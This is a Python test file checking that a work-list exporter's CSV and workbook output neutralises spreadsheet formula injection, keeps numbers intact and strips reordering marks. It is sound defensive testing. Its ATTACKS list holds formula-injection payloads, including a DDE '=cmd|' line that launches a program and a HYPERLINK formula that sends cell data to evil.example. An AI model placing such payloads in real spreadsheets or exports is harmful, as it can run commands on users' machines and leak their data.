"""CSV and workbooks: no text runs as a formula, numbers stay numbers, the same list is the same file."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from tests.work_lists import TEXT_FIELDS, judged

from readygate_server.adapters.worklists.cells import LONGEST, cell_text, guarded, is_dangerous
from readygate_server.adapters.worklists.jira import jira_text
from readygate_server.adapters.worklists.rows import Row, columns, rows_of
from readygate_server.adapters.worklists.tables import SHEET, csv_text, workbook

ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "-cmd",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "{=1+1}\x00",
)


def rows(**texts: str) -> list[Row]:
    """Returns the rows of the example with other texts."""
    return list(rows_of([judged(texts)]))


def read_csv(text: str) -> list[list[str]]:
    """Reads a CSV file as its readers do."""
    return list(csv.reader(io.StringIO(text, newline="")))


def could_run(cell: str) -> bool:
    """True for a cell that a spreadsheet would take for a formula, told apart without our own test."""
    try:
        float(cell)
    except ValueError:
        return cell.strip().lstrip("\ufeff\u200b")[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") or cell[:1] in tuple(
            "\t\r\n"
        )
    return False


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_no_text_becomes_a_formula_in_csv(field: str, attack: str) -> None:
    """Whatever a text begins with, no cell of the CSV files begins with it."""
    found = rows(**{field: attack})
    for text in (csv_text(found), jira_text(found)):
        assert not [cell for line in read_csv(text) for cell in line if could_run(cell)]


@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_no_text_becomes_a_formula_or_link_in_a_workbook(field: str) -> None:
    """Every text of a workbook is stored as text, and none as a link."""
    for attack in (*ATTACKS, "http://evil.example/", "internal:Work!A1", "mailto:a@b.example"):
        sheet = load_workbook(io.BytesIO(workbook(rows(**{field: attack}))))[SHEET]
        cells = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
        assert {cell.data_type for cell in cells} <= {"s", "n"}
        assert not any(cell.hyperlink for cell in cells)
        dangerous = [cell for cell in cells if cell.data_type == "s" and is_dangerous(str(cell.value))]
        assert all(cell.quotePrefix for cell in dangerous)


def test_an_attack_is_found_again_as_it_was_written() -> None:
    """The guard adds one apostrophe and changes nothing else; a workbook holds the very text."""
    line = read_csv(csv_text(rows(title="=1+1")))[1]
    assert line[columns().index("title")] == "'=1+1"
    sheet = load_workbook(io.BytesIO(workbook(rows(title="=1+1"))))[SHEET]
    assert sheet.cell(2, columns().index("title") + 1).value == "=1+1"


@pytest.mark.parametrize("number", [-1, -0.5, 0, 1e-07, 2.0, 1e22])
def test_numbers_stay_numbers(number: float) -> None:
    """A negative number is no formula, and reads back as the number it was."""
    assert float(guarded(number)) == number
    assert not guarded(number).startswith("'")


def test_no_mark_reorders_what_is_read() -> None:
    """Marks that show a text in another order, and control characters, are replaced; letters of any script stay."""
    for mark in "\u061c\u200e\u200f\u2028\u202e\u2066\u2069\x85\x00":
        assert cell_text(f"a{mark}b") == "a\ufffdb"
    assert cell_text("Größe 東京 שלום\tb\n") == "Größe 東京 שלום\tb\n"


@pytest.mark.parametrize("text", ["-5", "+3.5", "-1e9", "0", "plain", "a=b", "'=1", ""])
def test_harmless_text_is_left_alone(text: str) -> None:
    """A text that is a number, or begins with something else, stays as it is."""
    assert guarded(text) == text


@given(st.text(max_size=40))
def test_no_guarded_text_could_run(text: str) -> None:
    """No text at all, once guarded, is taken for a formula after it went through a CSV file."""
    file = io.StringIO()
    csv.writer(file).writerow([guarded(text)])
    (line,) = read_csv(file.getvalue()) or [[""]]
    assert not could_run(line[0] if line else "")


def test_the_columns_hold_what_the_plan_says() -> None:
    """A line has the item, its numbers, who chose the threshold, and the decision."""
    first, second = (dict(zip(columns(), line, strict=True)) for line in read_csv(csv_text(rows(decision_id="d1")))[1:])
    assert first["work_item"] == "W-DAT-0[crm]"
    assert (first["effort_min_person_weeks"], first["wait_max_weeks"], first["wave"]) == ("0.5", "2", "1")
    assert first["provenance"] == "source.completeness >= 0.99: A standard, clause 4"
    assert (first["verdict"], first["gate"], first["tier"]) == ("NO_GO", "pilot", "T3 act")
    assert (first["decision_id"], first["ruleset_digest"], first["as_of"]) == ("d1", "sha256:00", "2026-11-01")
    assert second["after"] == first["work_item"]


def test_the_same_list_is_the_same_workbook() -> None:
    """The bytes of a workbook depend on nothing but the rows."""
    assert workbook(rows()) == workbook(rows())
    assert workbook(rows()) != workbook(rows(title="Another"))


def test_no_work_is_a_header_alone() -> None:
    """Without work CSV and workbook have their header and no rows."""
    assert read_csv(csv_text([])) == [list(columns())]
    assert load_workbook(io.BytesIO(workbook([])))[SHEET].max_row == 1


def test_what_no_cell_holds_is_cut_or_shown() -> None:
    """A text longer than a cell is cut with a mark, and control characters are shown as unreadable ones."""
    sheet = load_workbook(io.BytesIO(workbook(rows(title="x" * 40_000, done_when="a\x00b\x1f"))))[SHEET]
    title = str(sheet.cell(2, columns().index("title") + 1).value)
    assert (len(title), title[-1]) == (LONGEST, "…")
    assert (
        sheet.cell(2, columns().index("done_when") + 1).value == "a\N{REPLACEMENT CHARACTER}b\N{REPLACEMENT CHARACTER}"
    )
